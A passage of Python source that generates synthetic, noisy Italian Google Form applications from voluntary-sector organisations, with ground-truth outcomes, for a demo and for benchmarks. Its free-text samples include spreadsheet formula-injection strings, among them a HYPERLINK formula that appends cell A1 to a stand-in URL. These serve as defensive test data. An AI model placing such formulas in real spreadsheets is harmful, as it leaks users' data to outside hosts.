"""Synthetic Google Form responses for an Ambito, with their ground truth.

Used by `elenco demo` and by the benchmarks. The rows have the shape of a Google Forms CSV export from an
Italian-locale sheet and the noise of real submissions: organisations applying two or three times with their
name spelled differently, a VAT number typed instead of the tax code, changed areas or contact person,
organisations that look alike but are not the same, blocking problems, warnings, late submissions and free
text that looks like a formula. Every row comes with the outcome the product's rules give it (`truth`).

Pure and deterministic given the seed: no I/O, no clock; dates derive from the Ambito's `opens`/`deadline`.
"""

from __future__ import annotations

import csv
import io
import random
import re
import unicodedata
from dataclasses import dataclass, field
from datetime import timedelta
from functools import lru_cache

from sync.config import FIELDS, Ambito

CONSENT = (
    "Dichiaro di aver letto l'informativa sul trattamento dei dati personali ai sensi dell'art. 13 "
    "del Regolamento UE 2016/679"
)
FIRST_NAMES = (
    "Andrea",
    "Marco",
    "Giovanna",
    "Sara",
    "Luca",
    "Paola",
    "Roberto",
    "Chiara",
    "Stefano",
    "Elena",
    "Davide",
    "Anna",
    "Maria",
    "Giuseppe",
    "Francesca",
    "Alessandro",
    "Silvia",
    "Fabio",
    "Laura",
    "Marta",
    "Giorgio",
    "Federica",
    "Matteo",
    "Simona",
    "Paolo",
    "Cristina",
    "Massimo",
    "Daniela",
    "Luigi",
    "Valentina",
)
SURNAMES = (
    "Bonizzi",
    "Severgnini",
    "Fusar Poli",
    "Tedoldi",
    "Pedrinazzi",
    "Aiolfi",
    "Ogliari",
    "Vailati",
    "Zucchetti",
    "Dossena",
    "Cattaneo",
    "Rossi",
    "Ferrari",
    "Bianchi",
    "Moretti",
    "Marchesi",
    "Rizzi",
    "Lodigiani",
    "Guerini",
    "Zanelli",
    "Fiorentini",
    "Conti",
    "Tomella",
    "Bettinelli",
    "Bonomi",
    "Raimondi",
    "Piloni",
    "Cremonesi",
    "Ghilardi",
    "Barbieri",
    "Galli",
    "Colombo",
    "Brambilla",
    "Mariani",
    "Stringhini",
    "Capellini",
    "Donida",
    "Bossi",
    "Villa",
    "Scaglioni",
)
# Contact emails use common providers and PEC use certified-mail domains, as applicants do; every local part
# is built from the synthetic names above, so no real person's address is reproduced on purpose.
MAIL_PROVIDERS = (
    "gmail.com",
    "libero.it",
    "alice.it",
    "virgilio.it",
    "tiscali.it",
    "outlook.it",
    "hotmail.it",
    "yahoo.it",
)
PEC_DOMAINS = ("pec.it", "legalmail.it", "pec.libero.it")

_CODE_KEYS = ("row", "entity", "expected", "reasons", "warnings")
_NOT_ALNUM = re.compile(r"[^a-z0-9]+")


@dataclass(frozen=True)
class DemoSet:
    """A generated form export: header, rows (sorted by submission time) and one truth record per row."""

    header: list[str]
    rows: list[list[str]]
    truth: list[dict[str, str]]


# Legal forms ---------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Form:
    key: str
    label: str  # the answer to "Forma giuridica"
    suffixes: tuple[str, ...]  # spellings of the form after the name; the first is the usual one
    prefixes: tuple[str, ...]  # spellings written before the name instead (word-order swap)
    runts: float  # share of such bodies with a RUNTS number
    vat: float  # share with a partita IVA beside an 8/9 codice fiscale
    company: bool  # its only tax code is a partita IVA (starts with 0/1)


_FORMS = {
    f.key: f
    for f in (
        _Form(
            "odv",
            "Organizzazione di volontariato (ODV)",
            (
                "ODV",
                "O.d.V.",
                "OdV",
                "Odv",
                "O.D.V.",
                "Organizzazione di Volontariato",
                "organizzazione di volontariato",
                "ODV-ETS",
                "ODV ETS",
                "Onlus",
                "",
            ),
            ("Associazione di volontariato",),
            0.97,
            0.05,
            False,
        ),
        _Form(
            "aps",
            "Associazione di promozione sociale (APS)",
            ("APS", "A.P.S.", "Aps", "Associazione di Promozione Sociale", "APS-ETS", "APS ETS", ""),
            ("APS",),
            0.97,
            0.2,
            False,
        ),
        _Form(
            "coop",
            "Impresa sociale - cooperativa sociale",
            (
                "Società Cooperativa Sociale",
                "Cooperativa Sociale",
                "Coop. Soc.",
                "Soc. Coop. Soc.",
                "S.C.S.",
                "Società Cooperativa Sociale a r.l.",
                "Cooperativa Sociale Onlus",
                "Coop. Sociale",
                "Soc. Coop. Soc. a r.l. Onlus",
                "scs",
            ),
            ("Cooperativa Sociale", "Soc. Coop. Sociale Onlus", "Coop. Soc."),
            0.8,
            0.0,
            True,
        ),
        _Form(
            "asd",
            "Associazione sportiva dilettantistica",
            ("ASD", "A.S.D.", "Asd", "a.s.d.", "Associazione Sportiva Dilettantistica"),
            ("ASD", "A.S.D."),
            0.2,
            0.25,
            False,
        ),
        _Form("fondazione", "Fondazione", ("Onlus", "ETS", "", "O.N.L.U.S."), (), 0.85, 0.3, False),
        _Form(
            "ets",
            "Altro ente del Terzo settore",
            ("ETS", "E.T.S.", "", "Ente del Terzo Settore"),
            (),
            0.97,
            0.2,
            False,
        ),
        _Form("nonric", "Associazione non riconosciuta", ("",), (), 0.05, 0.05, False),
        _Form(
            "impresa",
            "Impresa sociale - altra forma",
            ("Impresa Sociale", "S.r.l. Impresa Sociale", "srl Impresa Sociale", "S.r.l. - Impresa Sociale"),
            (),
            0.8,
            0.0,
            True,
        ),
        _Form("rete", "Rete associativa", ("", "Rete associativa", "APS"), (), 0.97, 0.1, False),
    )
}

# Name vocabulary -----------------------------------------------------------------------------------------

# (acronym or head, legal forms with weights): local sections of national networks, named after their comune
_CHAINS: tuple[tuple[str, dict[str, float]], ...] = (
    ("Auser", {"odv": 0.6, "aps": 0.4}),
    ("AVIS", {"odv": 1.0}),
    ("AIDO", {"odv": 0.7, "aps": 0.3}),
    ("ANTEAS", {"aps": 0.5, "nonric": 0.5}),
    ("Caritas", {"ets": 0.5, "nonric": 0.5}),
    ("UILDM", {"odv": 0.5, "nonric": 0.5}),
    ("ACLI", {"aps": 1.0}),
    ("ARCI", {"aps": 1.0}),
    ("ANFFAS", {"odv": 0.5, "aps": 0.5}),
    ("ADMO", {"odv": 1.0}),
    ("Pro Loco", {"aps": 1.0}),
    ("Croce Verde", {"odv": 1.0}),
    ("Gruppo Alpini", {"odv": 0.5, "nonric": 0.5}),
    ("Protezione Civile", {"odv": 1.0}),
    ("Centro Aiuto alla Vita", {"odv": 1.0}),
    ("ABIO", {"odv": 1.0}),
    ("LILT", {"odv": 0.5, "ets": 0.5}),
    ("SPI CGIL", {"nonric": 1.0}),
    ("FNP CISL", {"nonric": 1.0}),
    ("Gruppo Scout AGESCI", {"nonric": 1.0}),
)
_PLACE_HEADS: tuple[tuple[str, dict[str, float]], ...] = (
    ("Gruppo Volontari", {"odv": 0.5, "aps": 0.3, "nonric": 0.2}),
    ("Associazione Genitori", {"aps": 0.6, "odv": 0.2, "nonric": 0.2}),
    ("Centro Anziani", {"aps": 0.6, "nonric": 0.4}),
    ("Associazione Pensionati", {"aps": 1.0}),
    ("Comitato Genitori", {"nonric": 1.0}),
    ("Gruppo di Cammino", {"nonric": 1.0}),
    ("Circolo Culturale", {"aps": 1.0}),
    ("Associazione Famiglie", {"aps": 0.7, "odv": 0.3}),
    ("Centro Sociale", {"aps": 0.8, "nonric": 0.2}),
    ("Società di Mutuo Soccorso di", {"ets": 1.0}),
)
_SPORTS = (
    "Polisportiva",
    "Gruppo Sportivo",
    "Atletica",
    "Pallavolo",
    "Basket",
    "Unione Sportiva",
    "Ciclistica",
)
_CAUSES = (
    "Parkinson",
    "Alzheimer",
    "Autismo",
    "Diabetici",
    "Malati Oncologici",
    "Sclerosi Multipla",
    "Salute Mentale",
    "Donne contro la Violenza",
    "Genitori Separati",
    "Famiglie Affidatarie",
    "Sindrome di Down",
    "Disabili Visivi",
    "Amici del Cuore",
    "Familiari Malati Psichici",
    "Malati Reumatici",
    "Cure Palliative",
)
_NAMED = (
    "Il Girasole",
    "La Bottega",
    "Arcobaleno",
    "Il Ponte",
    "Il Volo",
    "Il Nodo",
    "Il Mosaico",
    "L'Approdo",
    "Il Germoglio",
    "La Rete",
    "Fiordaliso",
    "Il Faro",
    "Il Pozzo",
    "Insieme",
    "Rinascita",
    "Il Timone",
    "La Fenice",
    "Porta Aperta",
    "Oltre",
    "L'Officina",
    "Il Seme",
    "La Tenda",
    "Il Melograno",
    "Koinè",
    "La Zolla",
    "Il Sentiero",
    "Lo Scrigno",
    "La Bussola",
    "Il Sorriso",
    "Agape",
    "Nuovi Orizzonti",
    "Il Quadrifoglio",
    "La Goccia",
    "Il Cerchio",
    "L'Abbraccio",
    "La Rondine",
    "Il Cortile",
    "La Cordata",
    "Il Granello",
    "La Casa di Marta",
    "Il Gabbiano",
    "L'Aquilone",
    "La Lanterna",
    "Il Pellicano",
    "La Sorgente",
    "Il Mandorlo",
    "L'Ulivo",
    "La Quercia",
    "Il Glicine",
    "La Vite",
    "Il Chicco",
    "La Strada",
    "Il Cammino",
    "Sentieri",
    "Orizzonte",
    "Solidarietà",
    "Accoglienza",
    "Futura",
    "Primavera",
    "Il Millepiedi",
    "La Coccinella",
    "Il Filo d'Erba",
    "La Mongolfiera",
    "Il Piccolo Principe",
    "La Nuova Alba",
    "Tangram",
    "Itaca",
    "Emmaus",
    "Betania",
    "La Locomotiva",
    "Il Veliero",
    "La Clessidra",
    "Il Tralcio",
    "La Meridiana",
)
# two-part names of cooperatives and associations ("Cascina San Marco", "Spazio Comune")
_COMPOUND_HEADS = (
    "Casa",
    "Centro",
    "Spazio",
    "Cascina",
    "Bottega",
    "Laboratorio",
    "Villaggio",
    "Progetto",
    "Rifugio",
    "Porto",
    "Orto",
)
_COMPOUND_TAILS = (
    "Solidale",
    "Comune",
    "Insieme",
    "del Sole",
    "della Speranza",
    "dei Ragazzi",
    "delle Famiglie",
    "della Gioia",
    "del Fiume",
    "San Marco",
    "Santa Maria",
    "Felice",
    "dell'Accoglienza",
    "della Pace",
    "degli Amici",
    "del Sorriso",
    "Arcobaleno",
    "Futuro",
)
_SAINTS = (
    "San Francesco",
    "San Vincenzo de' Paoli",
    "San Pantaleone",
    "San Giacomo",
    "San Martino",
    "San Rocco",
    "San Giuseppe",
    "San Bernardino",
    "San Carlo",
    "San Lorenzo",
    "San Michele",
    "San Giovanni Bosco",
    "Santa Chiara",
    "Santa Maria della Croce",
    "Santa Lucia",
    "Santa Rita",
    "Santa Caterina",
    "Sant'Angela Merici",
    "Sant'Agostino",
    "Sant'Ambrogio",
    "Sant'Antonio",
)
_TERRITORY = {
    "Crema": "Cremasco",
    "Cremona": "Cremonese",
    "Cernusco sul Naviglio": "Martesana",
    "Lodi": "Lodigiano",
    "Bergamo": "Bergamasco",
    "Brescia": "Bresciano",
    "Milano": "Milanese",
    "Mantova": "Mantovano",
    "Pavia": "Pavese",
    "Treviglio": "Trevigliese",
    "Casalmaggiore": "Casalasco",
}
_ARTICLES = ("Il ", "La ", "Lo ", "I ", "Gli ", "Le ", "L'")
# words ignored when telling two generated identities apart ("Associazione Il Ponte" = "Il Ponte")
_KEY_STOPWORDS = frozenset({"il", "la", "lo", "l", "i", "gli", "le", "associazione", "di"})

# Comuni outside an Ambito that applicants give as their seat: (name, province, ISTAT province code).
_NEARBY: dict[str, tuple[tuple[str, str, str], ...]] = {
    "CR": (
        ("Cremona", "CR", "019"),
        ("Crema", "CR", "019"),
        ("Lodi", "LO", "098"),
        ("Treviglio", "BG", "016"),
        ("Caravaggio", "BG", "016"),
        ("Soresina", "CR", "019"),
        ("Brescia", "BS", "017"),
        ("Piacenza", "PC", "033"),
        ("Codogno", "LO", "098"),
        ("Casalmaggiore", "CR", "019"),
        ("Romano di Lombardia", "BG", "016"),
        ("Orzinuovi", "BS", "017"),
        ("Piadena Drizzona", "CR", "019"),
        ("Casalpusterlengo", "LO", "098"),
    ),
    "MI": (
        ("Melzo", "MI", "015"),
        ("Segrate", "MI", "015"),
        ("Pioltello", "MI", "015"),
        ("Vimodrone", "MI", "015"),
        ("Inzago", "MI", "015"),
        ("Cassano d'Adda", "MI", "015"),
        ("Cologno Monzese", "MI", "015"),
        ("Trezzo sull'Adda", "MI", "015"),
        ("Treviglio", "BG", "016"),
        ("Sesto San Giovanni", "MI", "015"),
        ("Vimercate", "MB", "015"),
        ("Brugherio", "MB", "015"),
    ),
}
_NATIONAL = (
    ("Milano", "MI", "015"),
    ("Bergamo", "BG", "016"),
    ("Brescia", "BS", "017"),
    ("Torino", "TO", "001"),
    ("Bologna", "BO", "037"),
    ("Verona", "VR", "023"),
    ("Roma", "RM", "058"),
    ("Pavia", "PV", "018"),
    ("Mantova", "MN", "020"),
    ("Parma", "PR", "034"),
)
_PHONE_PREFIXES = {
    "CR": ("0373", "0374", "0372"),
    "MI": ("02", "02", "0295"),
    "BG": ("035", "0363"),
    "LO": ("0371", "0377"),
    "BS": ("030",),
    "PC": ("0523",),
}
_STREETS = (
    "Via Roma",
    "Via Cavour",
    "Via Mazzini",
    "Via Garibaldi",
    "Via Dante",
    "Via Verdi",
    "Via XX Settembre",
    "Piazza Duomo",
    "Via Matteotti",
    "Via IV Novembre",
    "Piazza della Libertà",
    "Via San Martino",
    "Viale Europa",
    "Via Gramsci",
    "Via Manzoni",
    "Via Kennedy",
    "Via De Gasperi",
    "Vicolo del Forno",
)
_EXPERIENCE = (
    "Volontariato di prossimità: trasporti, compagnia, spesa a domicilio.",
    "Sportello di ascolto, distribuzione alimentare, housing sociale.",
    "Attività sportive inclusive per ragazzi con disabilità.",
    "Inserimento lavorativo di persone svantaggiate (tipo B).",
    "Gestiamo servizi educativi e di sostegno alle famiglie dal 1998.",
    "Centro diurno per anziani e servizio di assistenza domiciliare.",
    "Doposcuola e spazio compiti per ragazzi delle medie, in rete con l'oratorio.",
    "Gruppi di auto mutuo aiuto per familiari; corsi di formazione per volontari.",
    "Trasporto sociale verso ospedali e centri di cura, 40 volontari autisti.",
    "Accoglienza di donne vittime di violenza e dei loro figli, in convenzione con i comuni.",
    "Progetti di educativa di strada e prevenzione delle dipendenze con i giovani.",
    "Comunità alloggio per persone con disabilità e servizio di sollievo.",
    "Raccolta sangue e sensibilizzazione nelle scuole.",
    "Emporio solidale e orientamento al lavoro per persone in difficoltà.",
    "Laboratori artistici e musicali per bambini e famiglie; centri estivi.",
    "Mediazione culturale e corsi di italiano per stranieri.",
)
# Free text that a spreadsheet would read as a formula or a mention (= + - @): it must stay literal text.
_FORMULA_TEXT = (
    '=HYPERLINK("http://esempio.invalid/?d="&A1;"dettagli")',
    '=IMPORTXML("http://esempio.invalid";"//a")',
    "+39 0373 000000 chiamare dopo le 18",
    "-- nessuna esperienza --",
    "- trasporto anziani\n- spesa a domicilio\n- compagnia telefonica",
    "@sede operativa a {lead}",
    "=1+1",
)
_FORMULA_ADDRESS = (
    "- {street} {n}",
    "@ Casa del Volontariato, {street} {n}",
    "+ {street} {n} (c/o oratorio)",
    "={street} {n}",
)
_TEST_NAME_FALLBACK = "Prova invio modulo"
_TYPO_NEIGHBOURS = "qwertyuiopasdfghjklzxcvbnm"
_CF_MONTHS = "ABCDEHLMPRST"
_CF_ODD = (1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23)
_BELFIORE = ("D142", "D150", "F205", "A794", "B157", "E648", "C523")

# Problems injected into `problem_share` of the rows, with weights (roughly the development sets' mix).
_PROBLEMS: tuple[tuple[str, float], ...] = (
    ("consent", 0.18),
    ("name", 0.13),
    ("areas", 0.16),
    ("email", 0.16),
    ("test", 0.15),
    ("cf_invalid", 0.14),
    ("cf_missing", 0.08),
)


# Organisations and rows -----------------------------------------------------------------------------------


@dataclass(slots=True)
class _Org:
    index: int
    entity: str
    form: _Form
    head: str  # generic head noun written before the identity ("Associazione", "Fondazione"), or ""
    cores: tuple[str, ...]  # spellings of the identity; the first is the usual one
    suffix: str  # the legal-form spelling this organisation usually writes
    bare: bool  # usually written without its article ("Girasole" for "Il Girasole"): some answers add it
    comune: str
    comune_spellings: tuple[str, ...]
    province: str
    in_ambito: bool
    office: str  # the province digits of its tax codes
    tax_codes: tuple[str, ...]  # codice fiscale first, then partita IVA; () = none at all
    personal_code: bool  # an informal group typing its leader's personal codice fiscale
    runts: str
    address: str
    person: str
    email: str
    personal_email: bool
    phone: str
    pec: str
    areas: tuple[int, ...]
    experience: str


@dataclass(slots=True)
class _Row:
    org: _Org
    seq: int
    late: bool = False
    at: int = 0  # seconds after the Ambito opened
    problems: list[str] = field(default_factory=list)


@dataclass(slots=True)
class _Context:
    ambito: Ambito
    rng: random.Random
    comuni: list[tuple[str, tuple[str, ...], str]]  # (name, spellings, ISTAT province code)
    lead: int  # index of the lead comune in `comuni`
    territory: str
    outside: list[tuple[str, str, str]]
    prefixes: tuple[str, ...]
    used_names: dict[str, int] = field(default_factory=dict)
    used_codes: set[str] = field(default_factory=set)
    areas: list[str] = field(default_factory=list)
    phases: list[str] = field(default_factory=list)
    late_phases: str = ""
    test_words: tuple[str, ...] = ()
    test_emails: tuple[str, ...] = ()


@lru_cache(maxsize=65_536)
def _fold(text: str) -> str:
    if not text.isascii():
        text = unicodedata.normalize("NFKD", text.replace("\u2019", "'"))
        text = "".join(ch for ch in text if not unicodedata.combining(ch))
    return _NOT_ALNUM.sub(" ", text.casefold()).strip()


def _slug(text: str) -> str:
    return _fold(text).replace(" ", "")


def _weighted(rng: random.Random, weights: dict[str, float]) -> str:
    keys = list(weights)
    return rng.choices(keys, weights=[weights[k] for k in keys])[0]


def _luhn_digit(body: str) -> str:
    """The check digit of an 11-digit codice fiscale / partita IVA of a body (Luhn over the first 10)."""
    total = 0
    for i, ch in enumerate(body):
        d = int(ch)
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return str((10 - total % 10) % 10)


def _cf_check_letter(body: str) -> str:
    """The check letter of a personal codice fiscale (over its first 15 characters)."""
    total = 0
    for i, ch in enumerate(body):
        value = int(ch) if ch.isdigit() else ord(ch) - ord("A")
        total += _CF_ODD[value] if i % 2 == 0 else value
    return chr(ord("A") + total % 26)


def _new_code(ctx: _Context, first_digits: str, office: str) -> str:
    """A fresh valid 11-digit code: serial starting with one of `first_digits`, office code, check digit."""
    while True:
        serial = ctx.rng.choice(first_digits) + f"{ctx.rng.randrange(1_000_000):06d}"
        if int(serial) == 0:
            continue
        body = serial + office
        code = body + _luhn_digit(body)
        if code not in ctx.used_codes:
            ctx.used_codes.add(code)
            return code


def _consonants(word: str) -> str:
    return "".join(ch for ch in word if ch not in "AEIOU")


def _personal_code(ctx: _Context, person: str) -> str:
    """A well-formed personal codice fiscale for a synthetic person (surname, name, birth date, place)."""
    first, _, last = person.partition(" ")
    surname = re.sub(r"[^A-Z]", "", _fold(last).upper())
    name = re.sub(r"[^A-Z]", "", _fold(first).upper())
    vowels_s = "".join(ch for ch in surname if ch in "AEIOU")
    vowels_n = "".join(ch for ch in name if ch in "AEIOU")
    part1 = (_consonants(surname) + vowels_s + "XXX")[:3]
    cons_n = _consonants(name)
    part2 = (cons_n[0] + cons_n[2] + cons_n[3]) if len(cons_n) >= 4 else (cons_n + vowels_n + "XXX")[:3]
    rng = ctx.rng
    female = first.endswith("a") and first not in {"Andrea", "Luca"}
    day = rng.randint(1, 28) + (40 if female else 0)  # women's birth day is written plus 40
    while True:
        body = (
            f"{part1}{part2}{rng.randint(40, 99):02d}{rng.choice(_CF_MONTHS)}{day:02d}{rng.choice(_BELFIORE)}"
        )
        code = body + _cf_check_letter(body)
        if code not in ctx.used_codes:
            ctx.used_codes.add(code)
            return code


def _person(rng: random.Random) -> str:
    return f"{rng.choice(FIRST_NAMES)} {rng.choice(SURNAMES)}"


def _personal_email(rng: random.Random, person: str) -> str:
    first, _, last = person.partition(" ")
    f, sur = _slug(first), _slug(last)
    style = rng.random()
    if style < 0.7:
        local = f"{f}.{sur}"
    elif style < 0.85:
        local = f"{f[0]}{sur}"
    else:
        local = f"{f}{sur}{rng.randint(60, 99)}"
    return f"{local}@{rng.choice(MAIL_PROVIDERS)}"


def _phone(ctx: _Context, province: str) -> str:
    rng = ctx.rng
    if rng.random() < 0.25:
        return f"3{rng.randint(20, 49)} {rng.randint(1_000_000, 9_999_999)}"
    prefix = rng.choice(_PHONE_PREFIXES.get(province, ctx.prefixes))
    digits = 8 if prefix == "02" else 6
    return f"{prefix} {rng.randrange(10 ** (digits - 1), 10**digits)}"


def _context(ambito: Ambito, rng: random.Random) -> _Context:
    comuni = [(c.nome, (c.nome, *c.varianti), c.istat[:3]) for c in ambito.comuni]
    names = [c[0] for c in comuni]
    lead = 0
    m = re.search(r"Comune di ([^(,;:]+?)\s*(?:\(|,|;|:|$)", ambito.lead_body)
    if m and m.group(1).strip() in names:
        lead = names.index(m.group(1).strip())
    else:
        lead = next((i for i, n in enumerate(names) if _fold(n) in _fold(ambito.name)), 0)
    lead_name = names[lead]
    own = {_fold(s) for c in comuni for s in c[1]}
    outside: list[tuple[str, str, str]] = []
    for c in (*_NEARBY.get(ambito.province, ()), *_NATIONAL):
        if _fold(c[0]) not in own and c not in outside:
            outside.append(c)
    late = [p.label for p in ambito.phases if p.after_deadline]
    return _Context(
        ambito=ambito,
        rng=rng,
        comuni=comuni,
        lead=lead,
        territory=_TERRITORY.get(lead_name, lead_name),
        outside=outside,
        prefixes=_PHONE_PREFIXES.get(ambito.province, ("02", "030", "035")),
        areas=[a.label for a in ambito.areas],
        phases=[p.label for p in ambito.phases],
        late_phases=", ".join(late),
        test_words=tuple(w for w in ambito.test_words if _fold(w)),
        test_emails=ambito.test_emails,
    )


def _office(istat_province: str) -> str:
    # the office digits of a tax code must be 001-100 (or 120, 121, 888, 999)
    return istat_province if "001" <= istat_province <= "100" else "015"


def _pick_comune(ctx: _Context, outside: bool) -> tuple[str, tuple[str, ...], str, str, bool]:
    """(name, spellings, province, ISTAT province code, in the Ambito) of an organisation's seat."""
    rng = ctx.rng
    if outside and ctx.outside:
        name, prov, code = rng.choice(ctx.outside)
        return name, (name,), prov, code, False
    c = ctx.comuni[ctx.lead] if rng.random() < 0.35 else rng.choice(ctx.comuni)
    return c[0], c[1], ctx.ambito.province, c[2], True


def _identity(ctx: _Context, place: str) -> tuple[str, tuple[str, ...], str, str]:
    """(head, cores, legal form key, kind) of a new organisation seated in `place`."""
    rng = ctx.rng
    r = rng.random()
    if r < 0.22:
        acr, forms = rng.choice(_CHAINS)
        cores = (f"{acr} {place}", f"{acr} di {place}", f"{acr} - {place}")
        if rng.random() < 0.25:
            cores = (cores[1], cores[0], cores[2])
        return "", cores, _weighted(rng, forms), "chain"
    if r < 0.35:
        head, forms = rng.choice(_PLACE_HEADS)
        return "", (f"{head} {place}",), _weighted(rng, forms), "place"
    if r < 0.46:
        sport = rng.choice(_SPORTS)
        core = f"{sport} {place}"
        if rng.random() < 0.35:
            core = f"{core} {rng.randint(1, 99)}"
        return "", (core,), "asd", "sport"
    if r < 0.52:
        where = ctx.territory if rng.random() < 0.6 else place
        return (
            "Associazione",
            (f"{rng.choice(_CAUSES)} {where}",),
            _weighted(rng, {"odv": 0.4, "aps": 0.3, "ets": 0.15, "nonric": 0.15}),
            "cause",
        )
    if r < 0.66:
        core = _named(rng)
        form = _weighted(rng, {"aps": 0.45, "odv": 0.35, "ets": 0.1, "nonric": 0.1})
        return "Associazione", (core,), form, "named"
    if r < 0.80:
        return "", (_named(rng),), "coop", "named"
    if r < 0.85:
        core = rng.choice(
            (
                _named(rng),
                rng.choice(SURNAMES),
                f"{rng.choice(FIRST_NAMES)} {rng.choice(SURNAMES)}",
                f"Opera Pia {place}",
                f"Comunitaria {place}",
            )
        )
        return "Fondazione", (core,), "fondazione", "named"
    if r < 0.92:
        saint = rng.choice(_SAINTS)
        pick = rng.random()
        if pick < 0.5:
            form = _weighted(rng, {"nonric": 0.5, "odv": 0.3, "aps": 0.2})
            return "", (f"Amici di {saint}",), form, "saint"
        if pick < 0.75:
            return "", (f"Parrocchia di {saint} - {place}", f"Parrocchia {saint} {place}"), "ets", "saint"
        return "", (f"Oratorio {saint} {place}",), _weighted(rng, {"aps": 0.6, "nonric": 0.4}), "saint"
    if r < 0.96:
        first = rng.choice(FIRST_NAMES)
        sur = rng.choice(SURNAMES)
        return (
            "Associazione",
            (f"{first} {sur}", f"Amici di {first} {sur}"),
            _weighted(rng, {"odv": 0.6, "aps": 0.4}),
            "memorial",
        )
    if r < 0.985:
        return "", (_named(rng),), "impresa", "named"
    core = rng.choice((f"Rete {rng.choice(_NAMED)}", f"Forum del Terzo Settore {place}"))
    return "", (core,), "rete", "named"


def _named(rng: random.Random) -> str:
    if rng.random() < 0.6:
        return rng.choice(_NAMED)
    return f"{rng.choice(_COMPOUND_HEADS)} {rng.choice(_COMPOUND_TAILS)}"


def _identity_key(head: str, core: str) -> str:
    return " ".join(w for w in _fold(f"{head} {core}").split() if w not in _KEY_STOPWORDS)


def _unique(ctx: _Context, head: str, cores: tuple[str, ...], place: str) -> tuple[str, ...]:
    """Make the usual core unique among the organisations generated so far (a place, then a number)."""
    key = _identity_key(head, cores[0])
    if key not in ctx.used_names:
        ctx.used_names[key] = 1
        return cores
    if _fold(place) not in _fold(cores[0]):
        if ctx.territory in cores[0]:  # "Associazione Parkinson Cremasco" -> "Associazione Parkinson Soncino"
            placed = tuple(c.replace(ctx.territory, place) for c in cores)
        else:
            placed = tuple(f"{c} di {place}" for c in cores)
        key2 = _identity_key(head, placed[0])
        if key2 not in ctx.used_names:
            ctx.used_names[key2] = 1
            return placed
        key, cores = key2, placed
    # a number, as sports clubs and sections do ("Polisportiva Crema 41"); an existing one is increased
    base, n = cores[0], ctx.used_names[key] + 1
    m = re.fullmatch(r"(.*) (\d+)", base)
    if m:
        base, n = m.group(1), int(m.group(2)) + 1
    while _identity_key(head, f"{base} {n}") in ctx.used_names:
        n += 1
    ctx.used_names[key] = n
    numbered = f"{base} {n}"
    ctx.used_names[_identity_key(head, numbered)] = 1
    return (numbered,)


def _areas(rng: random.Random, count: int) -> tuple[int, ...]:
    k = min(count, rng.choices((1, 2, 3, count), weights=(35, 30, 20, 15))[0])
    return tuple(sorted(rng.sample(range(count), k)))


def _make_org(ctx: _Context, index: int, orgs: list[_Org], sibling: _Org | None) -> _Org:
    rng = ctx.rng
    if sibling is None:
        outside = rng.random() < 0.05  # a few applicants have their seat outside the Ambito
        for _ in range(6):  # a fresh identity when the first ideas are taken
            comune, spellings, province, istat_prov, in_ambito = _pick_comune(ctx, outside)
            head, cores, form_key, kind = _identity(ctx, comune)
            if _identity_key(head, cores[0]) not in ctx.used_names:
                break
    else:
        # a look-alike: the same network in another comune, or the next club number in the same comune
        head, cores, form_key = sibling.head, sibling.cores, sibling.form.key
        number = re.search(r" (\d+)$", cores[0])
        if number:
            comune, spellings, province, istat_prov, in_ambito = (
                sibling.comune,
                sibling.comune_spellings,
                sibling.province,
                sibling.office,
                sibling.in_ambito,
            )
            cores = (f"{cores[0][: number.start()]} {int(number.group(1)) + 1}",)
        else:
            outside = rng.random() < 0.05
            for _ in range(6):
                comune, spellings, province, istat_prov, in_ambito = _pick_comune(ctx, outside)
                if comune != sibling.comune:
                    break
            cores = tuple(c.replace(sibling.comune, comune) for c in cores)
        kind = "sibling"
    cores = _unique(ctx, head, cores, comune)
    form = _FORMS[form_key]
    suffix = form.suffixes[0] if rng.random() < 0.7 else rng.choice(form.suffixes)
    office = _office(istat_prov)
    # where the avviso asks for RUNTS enrolment, most applicants are enrolled whatever their form
    runts_share = 1 - (1 - form.runts) * 0.3 if ctx.ambito.runts_required else form.runts
    required = ctx.ambito.tax_code_required
    informal = form.key == "nonric" and kind in {"place", "chain", "saint", "sibling"}
    person = _person(rng)
    tax_codes: tuple[str, ...]
    personal = False
    if form.company:
        tax_codes = (_new_code(ctx, "01", office),)
    elif informal and not required and rng.random() < 0.35:
        personal = rng.random() < 0.25
        tax_codes = (_personal_code(ctx, person),) if personal else ()
    elif form.key == "asd" and not required and rng.random() < 0.1:
        tax_codes = ()
    elif informal and rng.random() < 0.03:
        personal = True
        tax_codes = (_personal_code(ctx, person),)
    else:
        cf = _new_code(ctx, "89", office)
        tax_codes = (cf, _new_code(ctx, "01", office)) if rng.random() < form.vat else (cf,)
    shared = [o for o in orgs[-50:] if o.personal_email]
    if shared and rng.random() < 0.02:
        # one person answers for two organisations: same email and phone, different bodies
        other = rng.choice(shared)
        person, email, personal_email, phone = other.person, other.email, True, other.phone
    else:
        personal_email = rng.random() < 0.5
        email = _personal_email(rng, person) if personal_email else _org_email(rng, head, cores[0])
        phone = _phone(ctx, province)
    slug = _slug(cores[0])
    pec = f"{slug[:24]}@{rng.choice(PEC_DOMAINS)}" if rng.random() < (0.9 if form.company else 0.45) else ""
    experience = "" if rng.random() < 0.15 else rng.choice(_EXPERIENCE)
    if rng.random() < 0.03:
        experience = rng.choice(_FORMULA_TEXT).format(lead=ctx.comuni[ctx.lead][0])
    street, number_ = rng.choice(_STREETS), rng.randint(1, 120)
    address = f"{street} {number_}"
    if rng.random() < 0.01:
        address = rng.choice(_FORMULA_ADDRESS).format(street=street, n=number_)
    return _Org(
        index=index,
        entity=f"E{index + 1:05d}",
        form=form,
        head=head,
        cores=cores,
        suffix=suffix,
        bare=_drop_article(cores[0]) != cores[0] and rng.random() < 0.15,
        comune=comune,
        comune_spellings=spellings,
        province=province,
        in_ambito=in_ambito,
        office=office,
        tax_codes=tax_codes,
        personal_code=personal,
        runts=str(rng.randint(1000, 199_999)) if rng.random() < runts_share else "",
        address=address,
        person=person,
        email=email,
        personal_email=personal_email,
        phone=phone,
        pec=pec,
        areas=_areas(rng, len(ctx.areas)),
        experience=experience,
    )


def _org_email(rng: random.Random, head: str, core: str) -> str:
    slug = _slug(f"{head} {core}" if rng.random() < 0.4 else core)
    style = rng.random()
    local = (
        slug[: rng.randint(14, 24)]
        if style < 0.7
        else f"info.{slug[:18]}"
        if style < 0.85
        else (f"segreteria{slug[:14]}")
    )
